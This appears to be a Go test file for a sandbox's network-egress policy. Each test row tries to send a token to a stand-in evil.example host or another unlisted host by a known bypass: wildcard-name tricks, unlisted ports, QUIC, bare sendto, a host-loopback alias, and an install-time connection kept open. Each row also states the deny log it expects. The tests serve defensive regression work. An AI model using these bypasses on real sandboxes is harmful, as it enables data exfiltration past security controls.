//go:build linux

package gauntlet

import (
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"time"

	"github.com/miekg/dns"
)

// beyondRows go beyond what a rule says: to its neighbours, to another port, after its time.
func beyondRows() []Row {
	return []Row{
		{
			ID: "names/wildcard-label", Vector: "notshop.example under a rule for *.shop.example", Right: "a wildcard ends at a dot",
			Source: "aimee PR #2531", Rules: []string{"--allow", "*.shop.example"}, Lifted: []string{"--allow", "notshop.example"}, Prepare: named("notshop.example"),
			Attack: visit("notshop.example", Evil), Harm: Heard,
			Record: []string{"dns-query hostname=notshop.example verdict=deny reason=dns-blocked", "network-connect verdict=deny dest_ip=203.0.113.66"},
		},
		{
			ID: "names/wildcard-behind", Vector: "shop.example.evil.example under rules for shop.example and all below it", Right: "a name is read from its end",
			Source: "aimee PR #2531", Rules: []string{"--allow", "shop.example", "--allow", "*.shop.example"}, Lifted: []string{"--allow", "*.evil.example"}, Prepare: named("shop.example.evil.example"),
			Attack: visit("shop.example.evil.example", Evil), Harm: Heard,
			Record: []string{"dns-query hostname=shop.example.evil.example verdict=deny reason=dns-blocked", "network-connect verdict=deny dest_ip=203.0.113.66"},
		},
		{
			ID: "names/port", Vector: "an allowed name on a port that its rule does not name", Right: "a name without ports is 80 and 443",
			Source: "microsandbox #1361, klangk PR #2248", Rules: shopOnly, Lifted: []string{"--allow", "shop.example:7"},
			Attack: func(a *Attacker) error {
				a.learn("shop.example")
				return a.tellTCP(at(Shop, 7))
			},
			Harm: Heard, Record: []string{"network-connect verdict=deny dest_ip=198.51.100.10 dest_port=7 reason=port"},
		},
		{
			ID: "names/proto", Vector: "QUIC to a name that is allowed for TCP", Right: "a rule says its protocol",
			Source: "harden-runner GHSA-cpmj-h4f6-r6pq, ToolHive #1032", Rules: []string{"--allow", "shop.example:443/tcp"}, Lifted: []string{"--allow", "shop.example:443/udp"},
			Attack: func(a *Attacker) error {
				a.learn("shop.example")
				return a.tellQUIC(nil, at(Shop, 443), "shop.example")
			},
			Harm: Heard, Record: []string{"network-connect verdict=deny protocol=udp dest_ip=198.51.100.10 reason=port"},
		},
		{
			ID: "names/sendmsg", Vector: "one datagram to an unlisted address, by sendto without a connect", Right: "every datagram belongs to a flow that is judged",
			Source: "harden-runner GHSA-cpmj-h4f6-r6pq, nono #756", Rules: shopOnly, Lifted: []string{"--allow", Evil.String() + ":7/udp"},
			Attack: func(a *Attacker) error { return a.sendTo(at(Evil, 7)) },
			Harm:   Heard, Record: []string{"network-connect verdict=deny protocol=udp dest_ip=203.0.113.66 reason=default"},
		},
		{
			ID: "names/host-alias", Vector: "the host's loopback by the name that weir gives it", Right: "a name that weir itself answers opens nothing",
			Source: "ToolHive #4395", Rules: shopOnly, Lifted: []string{"--allow", "shop.example", "--host-port", fmt.Sprint(HostLoopbackPort)},
			Attack: func(a *Attacker) error {
				targets, _ := a.ask("udp", "", "host.weir.internal", dns.TypeA)
				return a.tellAny(HostLoopbackPort, append(targets, netip.MustParseAddr("127.0.0.1")))
			},
			Harm: Heard, Record: []string{"network-connect verdict=deny dest_ip=127.0.0.1 reason=guard"},
		},
		{
			ID: "names/install-over", Vector: "a name that only the installation may use, after initialize", Right: "install rules end with the answer to initialize",
			Source: "ToolHive #1597", Rules: []string{"--mode", "enforce"}, Lifted: []string{"--allow", "other.example"}, Prepare: installing,
			Attack: func(a *Attacker) error {
				initialized()
				a.learn("other.example")
				return a.tellTLS(at(Other, 443), "other.example")
			},
			Harm: Heard, Record: []string{"dns-query hostname=other.example verdict=deny", "network-connect verdict=deny dest_ip=198.51.100.11"},
		},
		{
			ID: "names/install-kept", Vector: "a connection of the installation, kept and used after initialize", Right: "what is open is judged again when rules end",
			Source: "ToolHive #1597", Rules: []string{"--mode", "enforce"}, Lifted: []string{"--allow", "other.example"}, Prepare: installing,
			Attack: func(a *Attacker) error {
				a.learn("other.example")
				c, err := dial("tcp", at(Other, 80))
				if err != nil {
					return err
				}
				defer c.Close()
				if err := say(c, []byte("GET / HTTP/1.1\r\nHost: other.example\r\n\r\n")); err != nil {
					return err
				}
				initialized()
				_, err = c.Write([]byte("GET /" + a.Token + " HTTP/1.1\r\nHost: other.example\r\n\r\n"))
				return err
			},
			Harm: Heard, Record: []string{"network-close dest_ip=198.51.100.11 close=policy"},
		},
	}
}

// named gives a name the address of evil.example.
func named(name string) func(*Stage) error {
	return func(s *Stage) error {
		s.World.HandleName(name, s.World.fixed(name+". 60 IN A "+Evil.String()))
		return nil
	}
}

// visit asks for a name, and goes to the address whether there was an answer or not, under that name.
func visit(name string, address netip.Addr) func(*Attacker) error {
	return func(a *Attacker) error {
		a.learn(name)
		return a.tellTLS(at(address, 443), name)
	}
}

// tellAny says the token to the first of the addresses that listens.
func (a *Attacker) tellAny(port uint16, addresses []netip.Addr) error {
	err := fmt.Errorf("nowhere to go")
	for _, address := range addresses {
		if err = a.tellTCP(at(address, port)); err == nil {
			return nil
		}
	}
	return err
}

// installing has the sandbox run an MCP server of which a policy file says that it may use other.example to install itself.
func installing(s *Stage) error {
	policy := filepath.Join(s.Dir, "weir.yaml")
	text := "version: 1\napps:\n  gauntlet:\n    allow: [shop.example]\n    install:\n      allow: [other.example]\n"
	request := filepath.Join(s.Dir, "request")
	line := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"c","version":"1"}}}` + "\n"
	for path, content := range map[string]string{policy: text, request: line} {
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			return err
		}
	}
	f, err := os.Open(request)
	if err != nil {
		return err
	}
	s.Defer(func() { f.Close() })
	s.Stdin, s.Flags = f, []string{"-f", policy}
	return nil
}

// initialized answers the request of installing, and gives whoever reads along a moment to see it.
func initialized() {
	os.Stdin.Read(make([]byte, 4096))
	fmt.Println(`{"jsonrpc":"2.0","id":1,"result":{"protocolVersion":"2025-06-18","capabilities":{},"serverInfo":{"name":"s","version":"1"}}}`)
	time.Sleep(300 * time.Millisecond)
}
